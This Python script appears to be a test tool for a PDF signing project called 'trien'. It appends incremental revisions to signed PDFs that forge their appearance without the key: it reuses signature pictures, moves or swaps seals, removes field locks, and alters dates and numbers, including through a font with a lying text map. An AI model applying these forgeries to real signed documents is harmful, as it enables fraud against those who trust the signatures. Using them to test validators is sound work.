#!/usr/bin/env python3
# SPDX-License-Identifier: AGPL-3.0-or-later
"""Somebody with a PDF editor and no key: appends one revision to a file that was reserved and signed.
usage: forge.py ATTACK IN OUT      forge.py --list
Reads files whose objects stand in the open, as `trien reserve` leaves those with a cross-reference table."""
import re
import sys


class File:
    def __init__(self, data):
        self.data = data
        self.objects = {}
        self.size = max(int(n) for n in re.findall(rb"/Size (\d+)", data))

    def get(self, num):
        """The body of an object as it stands now."""
        if num in self.objects:
            return self.objects[num]
        at = [m.end() for m in re.finditer(rb"(?:^|[\r\n])%d 0 obj\s*" % num, self.data)][-1]
        return self.data[at : self.data.index(b"endobj", at)].strip()

    def put(self, num, body):
        self.objects[num] = body

    def new(self, body):
        self.objects[self.size] = body
        self.size += 1
        return self.size - 1

    def number(self, pattern, body):
        return int(re.search(pattern + rb"\s*(\d+) 0 R", body).group(1))

    def edit(self, num, pattern, by):
        body, n = re.subn(pattern, by, self.get(num), count=1, flags=re.S)
        assert n == 1, (num, pattern, self.get(num)[:400])
        self.put(num, body)

    def write(self):
        out = self.data if self.data.endswith(b"\n") else self.data + b"\n"
        at = {}
        for num, body in sorted(self.objects.items()):
            at[num] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (num, body)
        prev = int(re.findall(rb"startxref\s+(\d+)", self.data)[-1])
        root = re.findall(rb"/Root\s*(\d+ 0 R)", self.data)[-1]
        ids = re.findall(rb"/ID\s*\[.*?\]", self.data, re.S)[-1]
        xref = len(out)
        out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % (n, at[n]) for n in sorted(at))
        return out + b"trailer\n<</Size %d/Root %s/Prev %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (self.size, root, prev, ids, xref)

    # ---- what trien reserve made ----
    def catalog(self):
        return int(re.findall(rb"/Root\s*(\d+) 0 R", self.data)[-1])

    def field(self, *names):
        """The object of a field below "trien"."""
        nums = [int(n) for n in re.findall(rb"[\r\n](\d+) 0 obj", self.data)]
        for name in names:
            for num in nums:
                if re.search(rb"/T\s*\(%s\)" % name, self.get(num)) and b"/Parent" in self.get(num):
                    return num
        raise KeyError(names)

    def kids(self, num):
        return [int(n) for n in re.findall(rb"(\d+) 0 R", re.search(rb"/Kids\[(.*?)\]", self.get(num)).group(1))]

    def look(self, widget):
        return self.number(rb"/AP<</N", self.get(widget))

    def page(self):
        return self.number(rb"/P", self.get(self.field(b"seal")))

    def annotate(self, *refs):
        self.edit(self.page(), rb"/Annots\[(.*?)\]", lambda m: b"/Annots[%s %s]" % (m[1], b" ".join(b"%d 0 R" % r for r in refs)))


def fill(f, name, value, shown=None):
    """Value and look, as a form editor would."""
    field = f.field(name)
    if value is not None:
        f.edit(field, rb"/V\s*\(.*?\)", b"/V(%s)" % value)
    if shown is None:
        return
    font = re.search(rb"/Trien1 (\d+ 0 R)", f.get(f.catalog()) + b"".join(f.get(n) for n in forms(f))).group(1)
    for widget in f.kids(field):
        bbox = re.search(rb"/BBox\s*\[.*?\]", f.get(f.look(widget))).group(0)
        text = b"/Tx BMC q BT /Trien1 13 Tf 0 g 0 3 Td <%s>Tj ET Q EMC" % shown
        look = f.new(b"<</Type/XObject/Subtype/Form%s/Resources<</Font<</Trien1 %s>>>>/Length %d>>stream\n%s\nendstream"
                     % (bbox, font, len(text), text))
        f.edit(widget, rb"/AP<</N \d+ 0 R>>", b"/AP<</N %d 0 R>>" % look)


def forms(f):
    found = re.search(rb"/AcroForm\s*(\d+) 0 R", f.get(f.catalog()))
    return [int(found.group(1))] if found else []


def form(f):
    return (forms(f) or [f.catalog()])[0]


ATTACKS = {}


def attack(function):
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


# ---- the picture of a signature, used again ----
@attack
def picture_as_stamp(f):
    f.annotate(f.new(b"<</Type/Annot/Subtype/Stamp/F 4/Rect[60 60 160 120]/AP<</N %d 0 R>>>>" % f.look(f.field(b"1"))))


@attack
def text_over_page(f):
    f.annotate(f.new(b"<</Type/Annot/Subtype/FreeText/F 4/Rect[60 60 260 120]/DA(/Helv 12 Tf)/Contents(7)>>"))


def in_new_field(f, kind, whose):
    num = f.new(b"<</Type/Annot/Subtype/Widget/FT/%s/T(other)/F 4/Rect[60 60 160 120]/AP<</N %d 0 R>>>>" % (kind, f.look(f.field(whose))))
    f.annotate(num)
    f.edit(form(f), rb"/Fields\[(.*?)\]", lambda m: b"/Fields[%s %d 0 R]" % (m[1], num))


def moved(f, whose):
    f.edit(f.field(whose), rb"/Rect\[.*?\]", b"/Rect[60 60 160 120]")


def in_seal_field(f, whose):
    f.edit(f.field(b"seal"), rb"/AP<</N \d+ 0 R>>", b"/AP<</N %d 0 R>>" % f.look(f.field(whose)))


@attack
def picture_in_new_signature_field(f):
    in_new_field(f, b"Sig", b"1")


@attack
def picture_in_new_text_field(f):
    in_new_field(f, b"Tx", b"1")


@attack
def picture_moved(f):
    moved(f, b"1")


@attack
def picture_in_seal_field(f):
    in_seal_field(f, b"1")


@attack
def picture_exchanged(f):
    exchanged(f, b"1")


def exchanged(f, whose):
    look = f.look(f.field(whose))
    f.put(look, re.sub(rb"stream\r?\n.*", b"stream\n0 0 99 99 re f\nendstream", re.sub(rb"/Length \d+", b"/Length 16", f.get(look)), flags=re.S))


# ---- of a joint document: the seal of the agency that sealed first, "trien.sign.3" ----
@attack
def first_seal_moved(f):
    moved(f, b"3")


@attack
def first_seal_exchanged(f):
    exchanged(f, b"3")


@attack
def first_seal_in_new_field(f):
    in_new_field(f, b"Sig", b"3")


@attack
def first_seal_in_seal_field(f):
    in_seal_field(f, b"3")


@attack
def first_seal_signs_for_the_second(f):
    """The one signature stands in both fields."""
    value = re.search(rb"/V (\d+ 0 R)", f.get(f.field(b"3"))).group(1)
    in_seal_field(f, b"3")
    seal = f.field(b"seal")
    f.put(seal, re.sub(rb"^<<", b"<</V %s" % value, re.sub(rb"/V \d+ 0 R", b"", f.get(seal))))


@attack
def first_seal_taken_away(f):
    f.edit(f.field(b"3"), rb"/V \d+ 0 R", b"")


# ---- what was reserved ----
@attack
def number_field_moved(f):
    f.edit(f.kids(f.field(b"number"))[0], rb"/Rect\[.*?\]", b"/Rect[60 60 160 76]")


@attack
def number_field_at_one_more_place(f):
    number = f.field(b"number")
    widget = f.get(f.kids(number)[0])
    new = f.new(re.sub(rb"/Rect\[.*?\]", b"/Rect[60 60 160 76]", widget))
    f.edit(number, rb"/Kids\[(.*?)\]", lambda m: b"/Kids[%s %d 0 R]" % (m[1], new))
    f.annotate(new)


@attack
def seal_field_at_one_more_place(f):
    seal = f.field(b"seal")
    new = f.new(b"<</Type/Annot/Subtype/Widget/Parent %d 0 R/F 4/Rect[60 60 160 160]/AP<</N %d 0 R>>>>" % (seal, f.look(f.field(b"1"))))
    f.edit(seal, rb"^<<", b"<</Kids[%d 0 R]" % new)
    f.annotate(new)


@attack
def seal_field_moved(f):
    f.edit(f.field(b"seal"), rb"/Rect\[.*?\]", b"/Rect[60 60 160 160]")


@attack
def seal_lock_removed(f):
    f.edit(f.field(b"seal"), rb"/Lock \d+ 0 R", b"")


@attack
def seal_lock_weakened(f):
    lock = f.number(rb"/Lock", f.get(f.field(b"seal")))
    f.put(lock, b"<</Type/SigFieldLock/Action/Exclude/Fields[(trien)]>>")


@attack
def font_exchanged(f):
    other = f.new(b"<</Type/Font/Subtype/Type1/BaseFont/Symbol>>")
    f.edit(form(f), rb"/Trien1 \d+ 0 R", b"/Trien1 %d 0 R" % other)


@attack
def font_rewritten(f):
    font = f.number(rb"/Trien1", f.get(form(f)))
    cid = f.number(rb"/DescendantFonts\s*\[", f.get(font))
    f.edit(cid, rb"^<<", b"<</DW 0")


# ---- values ----
@attack
def number_filled(f):
    fill(f, b"number", b"99", b"001c001c")


@attack
def number_shown_otherwise(f):
    fill(f, b"number", b"05", b"00140018")


@attack
def month_shown_otherwise(f):
    fill(f, b"month", b"02", b"00140015")


@attack
def year_over_a_stroke(f):
    fill(f, b"year", b"2026", b"0015001300150019")
    for widget in f.kids(f.field(b"year")):
        look = f.look(widget)
        f.put(look, f.get(look).replace(b" EMC\n", b" f  \n"))


@attack
def day_in_a_form_within(f):
    fill(f, b"day", b"05", b"00130018")
    for widget in f.kids(f.field(b"day")):
        inner = f.look(widget)
        bbox = re.search(rb"/BBox\s*\[.*?\]", f.get(inner)).group(0)
        outer = f.new(b"<</Type/XObject/Subtype/Form%s/Resources<</XObject<</X %d 0 R>>>>/Length 5>>stream\n/X Do\nendstream" % (bbox, inner))
        f.edit(widget, rb"/AP<</N \d+ 0 R>>", b"/AP<</N %d 0 R>>" % outer)


@attack
def number_in_a_lying_font(f):
    fill(f, b"number", b"05", b"00130018")
    old = re.search(rb"/Trien1 (\d+) 0 R", f.get(form(f))).group(1)
    body = f.get(int(old))
    text = b"1 beginbfchar <0014> <0030> endbfchar 1 beginbfchar <0018> <0035> endbfchar"
    lie = f.new(b"<</Length %d>>stream\n%s\nendstream" % (len(text), text))
    font = f.new(re.sub(rb"/ToUnicode\s*\d+ 0 R", b"/ToUnicode %d 0 R" % lie, body))
    for widget in f.kids(f.field(b"number")):
        look = f.look(widget)
        f.put(look, f.get(look).replace(b"/Trien1 %s 0 R" % old, b"/Trien1 %d 0 R" % font).replace(b"<00130018>", b"<00140018>"))


@attack
def number_shown_only(f):
    fill(f, b"number", None, b"001c001c")


@attack
def number_value_only(f):
    fill(f, b"number", b"99")


@attack
def number_drawn_over_the_page(f):
    fill(f, b"number", b"99", b"001c001c")
    for widget in f.kids(f.field(b"number")):
        look = f.look(widget)
        f.edit(look, rb"/BBox\s*\[.*?\]", b"/BBox[0 0 595 842]")


@attack
def number_turned_over_the_page(f):
    fill(f, b"number", b"99", b"001c001c")
    for widget in f.kids(f.field(b"number")):
        f.edit(f.look(widget), rb"/BBox", b"/Matrix[9 0 0 9 0 0]/BBox")


@attack
def day_filled_again(f):
    fill(f, b"day", b"31", b"00160014")


def main():
    if sys.argv[1] == "--list":
        print("\n".join(ATTACKS))
        return
    with open(sys.argv[2], "rb") as source:
        f = File(source.read())
    ATTACKS[sys.argv[1]](f)
    with open(sys.argv[3], "wb") as target:
        target.write(f.write())


if __name__ == "__main__":
    main()
